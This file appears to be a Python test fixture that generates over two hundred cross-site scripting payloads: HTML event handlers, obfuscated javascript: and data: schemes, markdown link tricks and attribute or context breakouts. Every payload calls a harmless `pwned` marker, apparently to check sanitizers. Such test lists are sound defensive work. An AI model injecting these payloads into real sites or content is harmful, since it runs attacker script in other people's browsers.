"""What people type who want their script to run in somebody else's browser: each calls `pwned` if it gets its way."""

from itertools import product

_CALLS = ("pwned(1)", "pwned`1`", "top.pwned(1)", "self['pwned'](1)")

_ELEMENTS = [
    "<script>{}</script>",
    "<script\n>{}</script\n>",
    "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'/>",
    '<img src="x" onerror="{}">',
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>',
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<marquee onstart={}>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:parent.{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    '<math><mtext><style><img src=x onerror={}></style></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<template><img src=x onerror={}></template>",
    '<style>@import "javascript:{}"</style>',
    '<link rel=stylesheet href="javascript:{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    "<xss style='animation-name:x' onanimationstart={}></xss>",
    "<p contenteditable onbeforeinput={}>x</p>",
    '<div style="background:url(javascript:{})">x</div>',
    "<dialog open onclose={}><form method=dialog><button>x</button></form></dialog>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
]  # fmt: skip

_SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\tjavascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript\t:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "&#106;avascript:{}",
    "&#x6A;avascript&#x3A;{}",
    "javascript%3A{}",
    "javascript://%0a{}",
    "javascript:/*x*/{}",
    "javascript:void%20{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={} xmlns='http://www.w3.org/2000/svg'/>",
    "blob:{}",
    "filesystem:{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "https:javascript:{}",
    "//javascript:{}",
    "\\javascript:{}",
    "https://example.org/\"onmouseover={}//",
    "https://example.org/'onmouseover='{}",
    "https://example.org/`onmouseover={}`",
    "https://javascript:{}@example.org/",
]  # fmt: skip

_LINKS = ["[x]({})", "[x](<{}>)", '[x]({} "title")', "![x]({})", "<{}>", "{}", "[x]: {}\n\n[x]"]

_MARKDOWN = [
    "**<img src=x onerror={}>**",
    "*<svg onload={}>*",
    "> <script>{}</script>",
    "- <img src=x onerror={}>",
    "# <img src=x onerror={}>",
    "`<img src=x onerror={}>`",
    "```html\n<script>{}</script>\n```",
    "```\"><img src=x onerror={}>\nx\n```",
    "```js\" onmouseover=\"{}\nx\n```",
    "```<script>{}</script>\n```",
    "```javascript\n{}\n```",
    "~~<img src=x onerror={}>~~",
    "| a | <img src=x onerror={}> |\n| --- | --- |\n| 1 | 2 |",
    "[<img src=x onerror={}>](https://example.org)",
    '[x](https://example.org "\\"onmouseover={}")',
    '[x](https://example.org" onclick="{}")',
    '[x](https://example.org/"onclick="{})',
    "![\"onerror={}](https://example.org/x.png)",
    "[x](https://example.org/?a=<script>{}</script>)",
    "https://example.org/<script>{}</script>",
    "https://example.org/?\"><img src=x onerror={}>",
    "user@example.org\"onmouseover={}",
    "mailto:x@example.org?body=<script>{}</script>",
    "@<img src=x onerror={}>",
    "@alice\"onmouseover={}",
    "#<img src=x onerror={}>",
    ":smile\"onmouseover={}:",
    "[[x]](javascript:{})",
    "[x][y]\n\n[y]: javascript:{}",
    "![x][y]\n\n[y]: data:text/html,<script>{}</script>",
    "\\<img src=x onerror={}\\>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "%3Cimg src=x onerror={}%3E",
    "\\u003cimg src=x onerror={}\\u003e",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "$$\\href{{javascript:{}}}{{x}}$$",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "' onmouseover='{}",
    "\" autofocus onfocus=\"{}",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "*/{}/*",
    "';{};//",
    "\";{};//",
    "`;{};//",
]  # fmt: skip


def payloads() -> list[str]:
    """All different; over two hundred."""
    call = _CALLS[0]
    made = [element.format(call) for element in (*_ELEMENTS, *_MARKDOWN)]
    made += [link.format(scheme.format(call)) for scheme, link in product(_SCHEMES, _LINKS[:4])]
    made += [link.format(_SCHEMES[0].format(call)) for link in _LINKS[4:]]
    made += [element.format(other) for element, other in product(_ELEMENTS[:5], _CALLS[1:])]
    return list(dict.fromkeys(made))


def one_line_payloads(longest: int) -> list[str]:
    """Those that fit into a name."""
    return [one for one in payloads() if len(one) <= longest and one.isprintable() and one == one.strip()]
